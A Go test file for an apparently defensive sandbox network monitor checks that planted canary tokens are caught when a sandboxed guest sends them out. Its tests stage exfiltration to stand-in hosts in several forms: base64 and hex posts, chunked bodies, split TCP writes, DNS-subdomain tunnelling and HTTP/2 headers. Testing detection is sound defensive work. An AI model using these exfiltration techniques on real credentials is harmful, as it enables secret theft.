package network_test

import (
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/sallyport-dev/sallyport/sandbox/canary"
	"github.com/sallyport-dev/sallyport/sandbox/network"
	"github.com/sallyport-dev/sallyport/sandbox/observation"
)

func TestStolenSecretsAreFound(t *testing.T) {
	set, err := canary.New(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	g := newGuest(t, func(c *network.Config) { c.Canaries = set; c.Limits.Flows = 5 })
	secret := set.Value(canary.DockerToken)
	post := func(url, body string) {
		t.Helper()
		r, err := g.browser(dns.TypeA).Post(url, "application/x-www-form-urlencoded", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		r.Body.Close()
	}
	// Each host is asked for by a DNS flow, then dialled: the limit is exceeded on purpose.
	post("https://collector.example/up", "d="+base64.StdEncoding.EncodeToString([]byte("aws_secret_access_key = "+secret)))
	post("https://auth.docker.io/token", "key="+secret)
	post("https://bucket.s3.amazonaws.com/", set.Value(canary.AWSSecretAccessKey)) // it is never sent, not even there
	chunked(g, "collector2.example", "token="+secret)
	post("http://198.51.100.66:8443/", hex.EncodeToString([]byte(secret)))
	io.WriteString(g.connect("198.51.100.67:9001"), "\x00\x01"+secret[:15])
	raw := g.connect("198.51.100.68:9001")
	io.WriteString(raw, "\x00\x01"+secret[:15])
	time.Sleep(10 * time.Millisecond)
	io.WriteString(raw, secret[15:])
	for _, part := range []string{secret[:12], secret[12:]} {
		g.ask("udp", g.resolver(), hex.EncodeToString([]byte(part))+".drop.example", dns.TypeA)
	}

	found := func(r network.Records) map[string]observation.Canary {
		m := map[string]observation.Canary{}
		for _, f := range r.Flows {
			for _, c := range f.Canaries {
				key := f.Domain + f.DstIP
				if f.Domain != "" {
					key = f.Domain
				}
				m[key] = c
			}
		}
		return m
	}
	docker := canary.DockerToken
	want := map[string]observation.Canary{
		"collector.example":         {Name: docker, Encoding: "base64"},
		"collector2.example":        {Name: docker, Encoding: "raw"},
		"auth.docker.io":            {Name: docker, Encoding: "raw", OwnDomain: true},
		"bucket.s3.amazonaws.com":   {Name: canary.AWSSecretAccessKey, Encoding: "raw"},
		"198.51.100.66":             {Name: docker, Encoding: "hex"},
		"198.51.100.68":             {Name: docker, Encoding: "raw"},
		g.world.Resolver().String(): {Name: docker, Encoding: "hex"},
	}
	r := g.records("all secrets", func(r network.Records) bool { return len(found(r)) == len(want) })
	for host, w := range want {
		got := found(r)[host]
		if got.Name != w.Name || got.Encoding != w.Encoding || got.OwnDomain != w.OwnDomain || (len(got.Owner) == 0) != (w.Name != docker) {
			t.Errorf("%s: %+v, want %+v", host, got, w)
		}
	}
	if r.Beyond.Flows == 0 {
		t.Error("the limit of flows did not matter")
	}
}

// HTTP/2 packs what a header says, and cuts bodies into frames.
func TestStolenSecretsAreFoundInHTTP2(t *testing.T) {
	set, err := canary.New(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	g := newGuest(t, func(c *network.Config) { c.Canaries = set })
	client := g.browser(dns.TypeA)
	client.Transport.(*http.Transport).ForceAttemptHTTP2 = true
	ask := func(host, header, body string) {
		t.Helper()
		req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "https://"+host+"/", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("X-Session", header)
		r, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		r.Body.Close()
		if r.ProtoMajor != 2 {
			t.Errorf("%s answers in %s", host, r.Proto)
		}
	}
	ask("in-a-header.example", set.Value(canary.NPMToken), "")
	ask("in-a-body.example", "x", strings.Repeat("x", 16<<10-9)+set.Value(canary.NPMToken))
	ask("nothing.example", "x", "y")
	found := func(r network.Records) (hosts []string) {
		for _, f := range r.Flows {
			if len(f.Canaries) > 0 && f.Canaries[0].Name == canary.NPMToken {
				hosts = append(hosts, f.Domain)
			}
		}
		slices.Sort(hosts)
		return hosts
	}
	r := g.records("the secrets", func(r network.Records) bool { return len(found(r)) == 2 })
	if got := found(r); !slices.Equal(got, []string{"in-a-body.example", "in-a-header.example"}) {
		t.Errorf("found at %v", got)
	}
}

// chunked sends text in chunks of five bytes (RFC 9112 §7.1).
func chunked(g *guest, host, text string) {
	g.Helper()
	r, w := io.Pipe()
	go func() {
		for piece := range slices.Chunk([]byte(text), 5) {
			_, _ = w.Write(piece)
		}
		w.Close()
	}()
	resp, err := g.browser(dns.TypeA).Post("http://"+host+"/", "text/plain", r)
	if err != nil {
		g.Fatal(err)
	}
	resp.Body.Close()
}

func TestLimitsHold(t *testing.T) {
	g := newGuest(t, func(c *network.Config) {
		c.Limits = network.Limits{Flows: 10, Queries: 3, Requests: 2, Messages: 4, Excerpts: 1000}
	})
	client := g.browser(dns.TypeA)
	for range 6 {
		g.get(client, "http://many.example/")
		g.ask("udp", g.resolver(), "many.example", dns.TypeA)
	}
	for range 10 {
		g.connect("198.51.100.1:80").Close()
	}
	irc := g.connect("198.51.100.1:6667")
	g.say(irc, "NICK a\r\nUSER a a a a\r\nPING 1\r\nPING 2\r\nPING 3\r\nPING 4\r\n", "PONG irc.example.net :4")
	r := g.world.Records(g.start)
	bytes := 0
	for _, f := range r.Flows {
		bytes += len(strings.ReplaceAll(strings.ReplaceAll(f.Out+f.In, `\x0d`, "."), `\x0a`, "."))
	}
	if len(r.Flows) != 10 || len(r.DNS) != 3 || len(r.HTTP) != 2 {
		t.Errorf("kept %d flows, %d queries, %d requests", len(r.Flows), len(r.DNS), len(r.HTTP))
	}
	if b := r.Beyond; b.Flows == 0 || b.DNS < 3 || b.HTTP < 4 || b.Messages < 2 || b.Bytes == 0 {
		t.Errorf("beyond the limits: %+v", b)
	}
	if bytes > 4000 { // 1000 of them, some escaped
		t.Errorf("%d bytes were kept", bytes)
	}
}
